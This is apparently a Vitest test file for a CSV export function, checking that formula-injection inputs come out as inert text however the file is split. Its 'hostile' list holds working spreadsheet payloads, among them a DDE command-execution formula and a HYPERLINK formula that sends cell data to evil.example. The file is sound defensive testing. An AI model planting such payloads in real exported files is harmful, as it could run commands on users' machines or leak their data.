import { expect, it } from 'vitest';

import { toCsvLines } from './toCsv.ts';

/** What spreadsheets compute, or come to compute after they have cleaned a cell. */
const hostile = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  ' =1+1',
  '   +1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  '=cmd|"/c calc"!A1',
  '=HYPERLINK("http://evil.example?x="&A1,"here")',
  '%0A=1+1\n=1+1',
  'x;=1+1;y',
  'x,=1+1,y',
  'x\t=1+1\ty',
  'x|=1+1|y',
  'x; \u200b=1+1',
  'x;"=A1&"',
  ';=1+1',
  '";=1+1',
  'x\r\n=1+1',
  'x\n"=A1&"',
];

/** Reads one line of CSV as RFC 4180 says, and nothing more than it says. */
function readLine(line: string): string[] {
  const cells: string[] = [];
  for (let at = 0; at <= line.length;) {
    if (line[at] === '"') {
      let text = '';
      for (at += 1; ; at += 1) {
        if (line[at] === undefined) throw new Error('A quoted cell has no end.');
        if (line[at] !== '"') text += line[at];
        else if (line[at + 1] === '"') {
          text += '"';
          at += 1;
        } else break;
      }
      cells.push(text);
      at += 2;
    } else {
      const end = line.indexOf(',', at) < 0 ? line.length : line.indexOf(',', at);
      const bare = line.slice(at, end);
      if (/["\r\n]/.test(bare)) throw new Error(`A bare cell holds ${JSON.stringify(bare)}.`);
      cells.push(bare);
      at = end + 1;
    }
  }
  return cells;
}

const isFormula = (cell: string) => /^[\s\0\u200b\ufeff]*[=+\-@＝＋－＠]/u.test(cell);

/**
 * The cells of a file as a lenient spreadsheet has them that expects a separator: a quote counts where
 * a cell begins, and what follows its end is part of the cell.
 */
function splitFile(file: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let isBegin = true;
  let isQuoted = false;
  for (let at = 0; at < file.length; at += 1) {
    const sign = file.charAt(at);
    if (isQuoted && sign === '"' && file[at + 1] === '"') {
      cell += sign;
      at += 1;
    } else if (isQuoted && sign === '"') {
      isQuoted = false;
    } else if (isBegin && sign === '"') {
      isQuoted = true;
      isBegin = false;
    } else if (!isQuoted && [separator, '\r', '\n'].includes(sign)) {
      cells.push(cell);
      cell = '';
      isBegin = true;
    } else {
      cell += sign;
      isBegin = false;
    }
  }
  return [...cells, cell];
}

const fileOf = (typed: string, separator: string): string =>
  toCsvLines(
    [
      ['first', typed, 'last'],
      [typed, 'second', typed],
      ['"', typed, '"'],
    ],
    separator,
  );

it('would notice a formula that another separator brings about', () => {
  expect(splitFile('a,x;=1+1;y\r\n', ';').filter(isFormula)).toEqual(['=1+1']);
  expect(splitFile('a,"x;=1+1;y"\r\n', ';').filter(isFormula)).toEqual(['=1+1']);
  expect(splitFile('a,"x;""=A1&"""\r\n', ';').filter(isFormula)).toEqual(['=A1&"""']);
});

it.each(hostile)('is text in a file, whatever it is split at: %j', (typed) => {
  for (const written of [',', ';']) {
    for (const read of [',', ';', '\t', '|']) {
      expect(splitFile(fileOf(typed, written), read).filter(isFormula)).toEqual([]);
    }
  }
});

it('takes time in proportion to the text', () => {
  const text = `${'\n'.repeat(200_000)}x`;
  const began = performance.now();
  expect(toCsvLines([[text]])).toHaveLength(text.length + 5);
  expect(performance.now() - began).toBeLessThan(1_000);
});

it('would notice a formula, and a cell that breaks out', () => {
  expect(hostile.slice(0, 19).filter((typed) => !isFormula(typed))).toEqual([]);
  expect(readLine('a,"b,""c""",')).toEqual(['a', 'b,"c"', '']);
  expect(() => readLine('a,b"c')).toThrow(/bare cell/);
});

it.each(hostile)('is text in a row, and one cell: %j', (typed) => {
  const cells = readLine(toCsvLines([['before', typed, 'after']]).slice(0, -2));
  expect(cells).toHaveLength(3);
  const [, cell = ''] = cells;
  expect(isFormula(cell)).toBe(false);
  expect(cell.replaceAll("'", '')).toBe(typed);
});
